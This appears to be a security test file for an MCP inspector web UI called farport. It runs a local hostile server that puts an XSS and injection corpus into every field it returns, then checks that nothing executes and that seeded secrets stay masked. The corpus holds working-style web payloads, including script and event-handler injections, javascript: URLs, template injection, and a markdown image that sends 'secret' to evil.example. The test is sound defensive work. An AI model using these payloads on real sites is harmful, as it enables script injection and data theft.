// A server that attacks the page: markup, scripts and names of inherited members in every string that a server can
// send, and secrets that it repeats in every place. Nothing runs, and no secret is shown, exported or logged.

import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';

import { folder, inspect, run } from './driver.mjs';

/** What runs, or changes the page, where text becomes markup, a URL or code. */
const CORPUS = [
  '<script>window.executed=1</script>',
  '<img src=x onerror="window.executed=1">',
  '<svg onload="window.executed=1"><animate onbegin="window.executed=1" attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.executed=1</script>"></iframe>',
  '"><script>window.executed=1</script>',
  '\' autofocus onfocus=window.executed=1 x=\'',
  '</textarea><script>window.executed=1</script>',
  '</style><script>window.executed=1</script>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.executed=1&gt;">',
  'javascript:window.executed=1',
  'JaVaScRiPt:window.executed=1',
  'java\nscript:window.executed=1',
  'data:text/html,<script>window.opener.executed=1</script>',
  'vbscript:window.executed=1',
  '{{constructor.constructor("window.executed=1")()}}',
  '${window.executed=1}',
  '__proto__',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.executed=1">',
  '<a href="javascript:window.executed=1" target=_self>x</a>',
  '<form action="javascript:window.executed=1"><button>x</button></form>',
  '![x](https://evil.example/?q=secret)',
  '[x](javascript:window.executed=1)',
  '\u202egnp.exe\u0000\u001b[31m',
  'constructor', 'toString', 'hasOwnProperty',
];

const SECRET = 'seeded-secret-4b7e';

/** Refuses to connect: with a challenge and the documents of a sign-in, with an error, or with a page. */
function refuse(request, response, { refuses, text, origin }) {
  const json = (status, value) => response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(value));
  const quoted = text.replace(/[^\x20-\x7e]/g, '').replace(/["\\]/g, '\\$&');
  if (request.url.startsWith('/.well-known/oauth-protected-resource')) return json(200, { resource: `${origin}/mcp`, resource_name: text, resource_documentation: text, authorization_servers: [origin], scopes_supported: [text] });
  if (request.url.startsWith('/.well-known/')) return json(200, { issuer: origin, authorization_endpoint: text, token_endpoint: text, registration_endpoint: text, scopes_supported: [text], code_challenge_methods_supported: [text], service_documentation: text });
  if (refuses === 'sign-in') return response.writeHead(401, { 'www-authenticate': `Bearer error="${quoted}", error_description="${quoted}", scope="${quoted}"` }).end(text);
  if (refuses === 'error') return json(400, { jsonrpc: '2.0', id: null, error: { code: -32000, message: text, data: { [text]: text } } });
  return response.writeHead(500, { 'content-type': 'text/html' }).end(text);
}

/** A server whose every string is `text`. */
function hostileServer() {
  const state = { text: CORPUS[0], refuses: undefined, origin: undefined };
  const server = createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += chunk;
    if (state.refuses !== undefined) return refuse(request, response, state);
    if (request.method !== 'POST') return response.writeHead(405).end();
    const message = JSON.parse(body);
    const { text } = state;
    const echoed = request.headers['x-api-key'] ?? '';
    response.setHeader('content-type', 'text/event-stream');
    response.setHeader('x-hostile', encodeURIComponent(text));
    const send = (value) => response.write(`data: ${JSON.stringify({ jsonrpc: '2.0', ...value })}\n\n`);
    if (message.id === undefined || message.method === undefined) return response.writeHead(202).end();
    const icons = [{ src: text, mimeType: text, sizes: [text] }, { src: `data:image/svg+xml,${encodeURIComponent(text)}`, mimeType: 'image/svg+xml' }];
    const annotations = { title: text, audience: [text], lastModified: text };
    const schema = { type: 'object', title: text, description: text, required: [text], properties: { [text]: { type: 'string', title: text, description: text, default: text, examples: [text], enum: [text, 'b'], enumNames: [text, text] }, b: { $ref: text }, typed: { type: text, format: text }, c: { oneOf: [{ const: text, title: text, description: text }, { type: 'object', title: text, properties: {} }] } } };
    const block = { type: 'text', text, annotations };
    const blocks = [
      block,
      { type: 'image', mimeType: text, data: text, annotations },
      { type: 'image', mimeType: 'image/svg+xml', data: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="window.executed=1"><script>window.executed=1</script>${text}</svg>`).toString('base64') },
      { type: 'audio', mimeType: text, data: text },
      { type: 'resource_link', uri: text, name: text, title: text, description: text, mimeType: text, icons },
      { type: 'resource', resource: { uri: text, mimeType: text, text } },
      { type: 'resource', resource: { uri: text, mimeType: 'text/html', blob: Buffer.from(text).toString('base64') } },
      { type: text, [text]: text },
    ];
    const results = {
      initialize: { protocolVersion: '2025-11-25', capabilities: { tools: {}, resources: { subscribe: true }, prompts: {}, logging: {}, completions: {}, experimental: { [text]: { [text]: text } } }, serverInfo: { name: text, title: text, version: text, description: text, websiteUrl: text, icons }, instructions: `${text}\n\n${text}` },
      'tools/list': { tools: [{ name: `t${text}`, title: text, description: text, icons, annotations: { title: text, readOnlyHint: text }, inputSchema: schema, outputSchema: { type: 'object', title: text, properties: { [text]: { const: 1 } } }, _meta: { [text]: text } }, { name: 'fails', inputSchema: { type: 'object' } }] },
      'resources/list': { resources: [{ uri: text, name: text, title: text, description: text, mimeType: text, icons, size: text, annotations }] },
      'resources/templates/list': { resourceTemplates: [{ uriTemplate: `x://{a}${text}`, name: text, title: text, description: text, mimeType: text }] },
      'resources/read': { contents: [{ uri: text, mimeType: text, text }, { uri: text, mimeType: 'text/html', text }, { uri: text, mimeType: 'image/svg+xml', blob: Buffer.from(text).toString('base64') }] },
      'prompts/list': { prompts: [{ name: `p${text}`, title: text, description: text, icons, arguments: [{ name: text, title: text, description: text }] }] },
      'prompts/get': { description: text, messages: [{ role: text, content: block }, ...blocks.map((content) => ({ role: 'user', content }))] },
      'completion/complete': { completion: { values: [text, `${text}2`], total: 2 } },
      'tools/call': { isError: true, content: blocks, structuredContent: { [text]: text, echoed }, _meta: { [text]: text, echoed } },
    };
    if (message.method === 'tools/call') {
      send({ method: 'notifications/message', params: { level: text, logger: text, data: { [text]: text, echoed } } });
      send({ method: 'notifications/message', params: { level: 'info', logger: text, data: text } });
      send({ method: 'notifications/progress', params: { progressToken: message.params._meta?.progressToken, progress: 1, total: 2, message: text } });
      send({ method: text, params: { [text]: text } });
    }
    if (message.params?.name === 'fails') {
      send({ id: 'e1', method: 'elicitation/create', params: { message: text, requestedSchema: schema } });
      send({ id: 'e2', method: 'elicitation/create', params: { mode: 'url', elicitationId: text, message: text, url: text } });
      send({ id: 's1', method: 'sampling/createMessage', params: { systemPrompt: text, messages: [{ role: text, content: block }, { role: 'user', content: blocks }], maxTokens: 1, modelPreferences: { hints: [{ name: text }] } } });
      state.finish = () => { send({ id: message.id, error: { code: -32000, message: `${text} ${echoed}`, data: { [text]: text, echoed } } }); response.end(); };
      return;
    }
    const result = results[message.method];
    send({ id: message.id, ...(result ? { result } : message.method === 'ping' || message.method.startsWith('resources/') || message.method.startsWith('logging/') ? { result: {} } : { error: { code: -32601, message: text } }) });
    response.end();
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => {
    state.origin = `http://127.0.0.1:${server.address().port}`;
    resolve({ url: `${state.origin}/mcp`, state, close: () => { server.closeAllConnections(); server.close(); } });
  }));
}

let ui;
let server;
const home = folder();
const requested = new Set();

/** Nothing ran, nothing else was requested, and every link leads to the web. */
async function unharmed(text) {
  const found = await ui.page.evaluate(() => ({
    executed: window.executed ?? null,
    links: [...document.querySelectorAll('a[href]')].map((one) => one.href).filter((one) => !/^https?:/.test(one) && !one.endsWith('#main')),
    frames: document.querySelectorAll('iframe, object, embed, base, meta[http-equiv], form[action]').length,
    handlers: [...document.querySelectorAll('*')].filter((one) => [...one.attributes].some(({ name }) => /^on/.test(name))).length,
    polluted: ({}).executed ?? ({}).title ?? null,
  }));
  assert.deepEqual(found, { executed: null, links: [], frames: 0, handlers: 0, polluted: null }, text);
}

/** Opens the page, and counts what its policy stops and what it requests. */
async function open() {
  server = await hostileServer();
  ui = await inspect([], { home });
  await ui.page.evaluate(() => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (event) => window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));
  });
  ui.page.on('request', (request) => { if (!request.url().startsWith('data:')) requested.add(new URL(request.url()).origin); });
}

/** Opens every view, and clicks what a user would. */
async function corpus() {
  for (const text of CORPUS) {
    server.state.text = text;
    await ui.connect(`${server.url}?${encodeURIComponent(text).slice(0, 8)}`, { wait: false });
    await ui.until((start) => [...document.querySelectorAll('.list-item code')].some((one) => one.textContent.startsWith(start)), `t${text.slice(0, 12)}`);
    await ui.click('.list-item');
    await ui.page.waitForSelector('.tool-page .fields, .tool-page .json-editor, .tool-page .muted');
    await ui.send();
    await ui.page.waitForSelector('.result .tone.bad');
    for (const tab of ['Structured', 'Raw']) await ui.click('.result .tabs button', tab);
    await unharmed(text);
    await ui.click('.list-item', 'fails(');
    await ui.seen('.tool-page h1', 'fails');
    await ui.send();
    await ui.until(() => document.querySelectorAll('.question').length === 3);
    await unharmed(text);
    for (let left = 3; left > 0; left -= 1) {
      await ui.page.$eval('.question', (one) => [...one.querySelectorAll('button')].find((button) => /^(Decline|Reject)/.test(button.textContent.trim())).click());
      await ui.until((left) => document.querySelectorAll('.question').length < left, left);
    }
    server.state.finish();
    await ui.until(() => document.querySelector('.actions .spinner') === null && document.querySelector('.result .tone.bad') !== null);
    await ui.click('.nav-item', 'Resources');
    await ui.click('.list-item');
    await ui.page.waitForSelector('.result');
    await ui.click('.list-item:last-of-type');
    await ui.click('.nav-item', 'Prompts');
    await ui.click('.list-item', 'p');
    await ui.page.waitForSelector('.fields input');
    assert.equal(await ui.page.$eval('.fields input', (one) => one.value), '', `the argument ${text} has no value yet`);
    await ui.page.focus('.fields input');
    await ui.click('.tool-page [data-send]');
    await ui.page.waitForSelector('.result');
    await unharmed(text);
    await ui.click('.nav-item', 'Server');
    await ui.page.waitForSelector('.facts');
    await ui.click('.tl-row.in');
    await ui.page.waitForSelector('.entry');
    await ui.click('.tl-row.http');
    await ui.page.waitForSelector('.entry .http');
    await unharmed(text);
  }
  await guarded();
}

/** The page's policy had nothing to stop, the page requested nothing elsewhere, and its stream never broke. */
async function guarded() {
  assert.deepEqual(await ui.page.evaluate(() => window.violations), []);
  assert.deepEqual([...requested], [new URL(ui.page.url()).origin]);
  assert.deepEqual(ui.complaints, []);
}

/** Connections that fail, with the text in each header, document and error. */
async function refusals() {
  for (const refuses of ['sign-in', 'error', 'page']) {
    server.state.refuses = refuses;
    for (const text of CORPUS) {
      server.state.text = text;
      await ui.connect(server.url, { wait: false });
      await ui.page.waitForSelector('.status-card.bad .http');
      await unharmed(text);
      if (refuses !== 'sign-in') continue;
      await ui.click('.nav-item', 'Sign-in');
      await ui.page.waitForSelector('.steps .step');
      await ui.page.$$eval('.steps .step button', (all) => all.forEach((one) => one.click()));
      await unharmed(text);
    }
  }
  server.state.refuses = undefined;
  await guarded();
}

/** Posts to the inspector's API as its page does, and returns the text of the answer. */
const post = (path, body) => ui.page.evaluate(async (path, body) => {
  const response = await fetch(`/api/${path}`, { method: 'POST', headers: { authorization: `Bearer ${sessionStorage.getItem('farport-inspect-token')}`, 'content-type': 'application/json' }, body: JSON.stringify(body) });
  return response.text();
}, path, body);

/** The text of every file below a folder. */
const files = (folder) => readdirSync(folder, { recursive: true, withFileTypes: true }).filter((one) => one.isFile()).map((one) => readFileSync(join(one.parentPath ?? one.path, one.name), 'utf8'));

/**
 * Secrets in a header and in the address, which the server repeats in a result, an error and logs. The page masks
 * them in every place, with a note.
 */
async function secrets() {
  server.state.text = 'harmless';
  await ui.click('.nav-item', 'Connect');
  await ui.click('form .button.ghost', 'Add a header');
  await ui.enter('[aria-label="Header name"]', 'X-Api-Key');
  await ui.enter('[aria-label="Value of the header X-Api-Key"]', SECRET);
  await ui.connect(`${server.url}?key=${SECRET}`, { wait: false });
  await ui.tool('tharmless');
  await ui.send();
  await ui.page.waitForSelector('.result');
  await ui.seen('.logs', '***');
  await ui.seen('.result [role=note]', 'Masked');
  const token = await ui.page.evaluate(() => sessionStorage.getItem('farport-inspect-token'));
  const hidden = (text, where) => {
    assert.ok(!text.includes(SECRET), `${where} has no secret`);
    assert.ok(!text.includes(token), `${where} has no token of the page`);
  };
  hidden(await ui.page.content(), 'the page with the content and the logs of the call');
  for (const tab of ['Structured', 'Raw']) {
    await ui.click('.result .tabs button', tab);
    await ui.seen('.result .card-body', '"***"');
    hidden(await ui.page.content(), `the tab ${tab}`);
  }
  await ui.picture('masked-light');
  for (const name of ['Sign-in', 'Server', 'Resources', 'Prompts', 'Chat', 'Connect']) {
    await ui.click('.nav-item', name);
    await ui.until((name) => document.querySelector('.nav-item.on, .nav-item[aria-current="page"]')?.textContent.includes(name), name);
    hidden(await ui.page.content(), name);
  }
  for (const format of ['har', 'ndjson']) {
    const text = await post('export', { format });
    assert.ok(text.includes('tools/call') && text.includes('***'), `the ${format} export has the call, and what the server repeated is masked`);
    hidden(text, `the ${format} export`);
  }
  for (const path of ['sign-in', 'sign-ins', 'servers', 'saved']) hidden(await post(path, {}), path);
  assert.ok(!ui.program.printed().includes(SECRET), 'farport printed no secret');
  for (const text of files(home)) hidden(text, 'what farport stores');
  const stored = await ui.page.evaluate(() => JSON.stringify([localStorage, sessionStorage]));
  assert.ok(!stored.includes(SECRET), 'the page stores no secret');
  await guarded();
  await ui.close();
  server.close();
}

await run({ open, corpus, refusals, secrets });
